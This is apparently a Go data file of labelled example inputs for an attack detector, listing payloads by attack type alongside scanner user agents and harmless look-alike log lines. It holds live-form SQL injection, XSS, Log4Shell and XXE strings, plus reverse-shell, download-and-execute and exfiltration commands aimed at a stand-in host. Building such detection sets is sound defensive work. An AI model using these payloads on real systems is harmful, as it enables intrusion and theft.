package labelled

import "github.com/stere-log/stere/meaning"

// payloads are what attackers send, by attack.
var payloads = []struct {
	attack meaning.Attack
	texts  []string
}{
	{meaning.SQLInjection, []string{
		"' OR 1=1--", "' or 'a'='a", "\" or \"\"=\"", "admin'--", "admin' #", "1' ORDER BY 3--+", "1 UNION SELECT null,null,null", "-1' UNION ALL SELECT user,password FROM users-- -",
		"1 union/**/select/**/1,2,3", "1/*!50000union*//*!50000select*/1,2", "'; DROP TABLE users; --", "1; EXEC xp_cmdshell('dir')", "1' AND SLEEP(5)#", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
		"'; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "1 and 1=1", "5) or (1=1", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
		"1' and ascii(substring((select password from users limit 1),1,1))>64--", "' union select @@version,2--", "1 or 1=1 limit 1", "') or ('1'='1", "1' || pg_sleep(5)--",
		"0 or benchmark(5000000,md5(1))", "a' having 1=1--", "1;insert into users values('x','y')", "' and 1 like 1--", "id=1 group by 1,2--", "1' into outfile '/var/www/x.php'--",
	}},
	{meaning.XSS, []string{
		"<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>", "\"><script>document.location='http://evil.example'</script>",
		"javascript:alert(1)", "<iframe src=javascript:alert(1)>", "<body onload=alert('x')>", "\" onmouseover=\"alert(1)", "<details open ontoggle=alert(1)>", "<scr<script>ipt>alert(1)</script>",
		"';alert(String.fromCharCode(88,83,83))//", "<math><mi xlink:href=\"data:text/html,<script>x</script>\">", "<input autofocus onfocus=alert(1)>", "<video src=1 onerror=alert(1)>", "'-alert(1)-'", "<a href=\"javascript:document.cookie\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
	}},
	{meaning.PathTraversal, []string{
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..;/..;/manager/x", "/var/www/../../etc/shadow", "../../boot.ini", "php://filter/convert.base64-encode/resource=index", "/proc/self/environ", "../../../WEB-INF/web.xml", "..%c0%af..%c0%afetc/passwd", "file/../../../../../../root/.ssh/id_rsa",
	}},
	{meaning.CommandInjection, []string{
		"; cat /etc/hostname", "| id", "`whoami`", "$(uname -a)", "&& wget http://203.0.113.9/x.sh", "; ping -c 5 203.0.113.9", "|| curl http://203.0.113.9/$(whoami)", "x;sleep 10", "() { :; }; /bin/bash -c 'id'", "; rm -rf /tmp/x; wget http://203.0.113.9/m.sh; chmod 777 m.sh; sh m.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "; nc -e /bin/sh 203.0.113.9 4444", "echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaDsgc2ggeC5zaA== | base64 -d | sh", "| powershell -enc SQBFAFgA", "a|ls -la /", "; /bin/cat /etc/group",
	}},
	{meaning.SSRF, []string{
		"?url=http://169.254.169.254/latest/meta-data/", "?u=http://127.0.0.1:8080/admin", "?target=http://localhost:22", "?image=file:///etc/hostname", "?next=gopher://127.0.0.1:6379/_INFO", "?fetch=http://10.0.0.5/", "?dest=http://192.168.1.1/", "?x=http://[::1]/", "?cb=dict://127.0.0.1:11211/stat", "?proxy=http://metadata.google.internal/computeMetadata/v1/", "?q=http://0x7f000001/", "?link=http://user@127.0.0.1/",
	}},
	{meaning.Log4Shell, []string{
		"${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}", "${jndi:dns://x.example}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://203.0.113.9/a}", "${${upper:j}ndi:ldap://203.0.113.9/x}", "${jn${lower:d}i:ldap://203.0.113.9/}",
	}},
	{meaning.LDAPInjection, []string{
		"*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin)(!(&(1=0", "x*)(mail=*))", "admin))(|(cn=*", "*)(userPassword=*)", "a)(|(password=*)", "anna)(memberOf=cn=admins", "*)(cn>=a)",
	}},
	{meaning.XXE, []string{
		"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>", "<!DOCTYPE a [<!ENTITY % d SYSTEM \"http://203.0.113.9/e.dtd\"> %d;]>", "<!ENTITY xxe PUBLIC \"a\" \"http://203.0.113.9/\">", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></x>",
	}},
	{meaning.TemplateInjection, []string{
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{constructor.constructor('alert(1)')()}}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "*{7*7}", "{% import os %}{{ os.popen('id').read() }}",
	}},
	{meaning.WebShell, []string{
		"/uploads/c99.php", "/images/r57.php?x=1", "/wp-content/uploads/shell.php?cmd=id", "/x.php?cmd=whoami", "/tmp/cmd.jsp?cmd=ls", "/a.php?x=eval(base64_decode($_POST[z]))", "/files/wso.php", "/b374k.php", "/up/aspxspy.aspx",
	}},
	{meaning.Scanner, []string{
		"/.env", "/.git/config", "/phpmyadmin/index.php", "/cgi-bin/luci/;stok=/locale", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json", "/manager/html", "/actuator/env", "/_ignition/execute-solution", "/.aws/credentials", "/boaform/admin/formLogin", "/owa/auth/x.js", "/wp-config.php.bak", "/server-status", "/.DS_Store",
	}},
}

// agents are the user agents of scanners.
var agents = []string{
	"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "gobuster/3.6", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "Fuzz Faster U Fool v2.0.0", "feroxbuster/2.10.0", "Mozilla/4.0 (Hydra)",
}

// harmless are requests and lines that only look like attacks.
var harmless = []string{
	`GET /search?q=union+station+select+hotels HTTP/1.1`, `GET /docs/sql/select-into-outfile-explained HTTP/1.1`, `GET /blog/how-to-prevent-xss-attacks HTTP/1.1`, `GET /articles/etc/passwd-managers HTTP/1.1`,
	`GET /products?name=O%27Reilly+and+Sons HTTP/1.1`, `GET /a/../b/index.html HTTP/1.1`, `GET /login?next=https%3A%2F%2Fwww.example.com%2Fhome HTTP/1.1`, `GET /redirect?url=https://shop.example.com/cart HTTP/1.1`,
	`GET /p?filter=price%3E100%20and%20price%3C200 HTTP/1.1`, `GET /api/v1/query?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D)) HTTP/1.1`, `GET /q?x=cats+%26+dogs HTTP/1.1`, `GET /q?x=rock+%27n%27+roll HTTP/1.1`,
	`GET /js/script.js HTTP/1.1`, `GET /img/onload-banner.png HTTP/1.1`, `GET /index.php?id=7&sort=desc HTTP/1.1`, `GET /upload.php HTTP/1.1`, `GET /search?q=drop+table+lamp HTTP/1.1`, `GET /search?q=%22or%22+and+%22and%22 HTTP/1.1`,
	`GET /wp-login.php HTTP/1.1`, `GET /environment HTTP/1.1`, `GET /git/config-guide HTTP/1.1`, `GET /?q=%D9%81%D8%B1-%D8%AA%D9%88 HTTP/1.1`, `GET /?q=100%25+cotton HTTP/1.1`, `GET /a?b=1&c=2;d=3 HTTP/1.1`, `POST /rpc?cmd=list_users HTTP/1.1`,
	`GET /t?tpl={{name}} HTTP/1.1`, `GET /price?sum=7*7 HTTP/1.1`, `GET /u?redirect=/account/../settings HTTP/1.1`, `GET /maps?center=52.5,13.4;zoom=3 HTTP/1.1`, `GET /x?callback=jQuery1720_15 HTTP/1.1`,
	`LOG:  statement: SELECT a FROM t WHERE name = 'x' OR name = 'y'`, `LOG:  duration: 12 ms  statement: SELECT 1 UNION SELECT 2`, `ERROR:  syntax error at or near "'" at character 17`, `executing: INSERT INTO t VALUES ('a'); UPDATE t SET x = 1`,
	`LOG:  statement: select table_name from information_schema.tables`, `LOG:  statement: SELECT pg_sleep(1)`, `running wget https://example.com/release.tar.gz`, `CMD (cd / && run-parts --report /etc/cron.hourly)`,
	`sh -c "ls -la /data | sort"`, `Compiling ../../src/main.c`, `loading file:/opt/app/../conf/app.properties`, `java.lang.RuntimeException: request failed`, `template ${name} not found`, `value of ${env:HOME} used`, `{{ .Values.image }} rendered`,
	`Mapped "{[/users/{id}],methods=[GET]}" onto handler`, `user said: <3 this`, `html error page: <html><body>502</body></html>`, `opened /etc/passwd for reading`, `<entity name="x" type="y"/> parsed`, `Get "http://127.0.0.1:3000/api/health": dial tcp: connection refused`,
	`health check url=http://10.0.0.7:8080/healthz ok`, `alert(severity=high) sent to pager`, `eval took 3 ms`, `system(5) booted`, `nmap package installed`, `started shell for user anna`, `it's a trap -- said the admin`, `price "10" or "20"?`, `retry 3 or 4 = 7 times`,
	`a=1 and b=2`, `path C:\Windows\System32\config\SOFTWARE opened`, `key='a' and key='b'`, `git log -- path`, `#include <script.h>`, `x || y && z`,
	`SRCH base="dc=example,dc=com" scope=2 filter="(&(objectClass=*)(uid=anna))"`, `GET /api?filter=(a=1)(b=2) HTTP/1.1`, `GET /plot?f=g(x)(y=2) HTTP/1.1`, `request done by (*Server).serve(GET)(status=200)`, `url=ldap://dc.example filter=(|(cn=anna)(cn=bert))`,
}
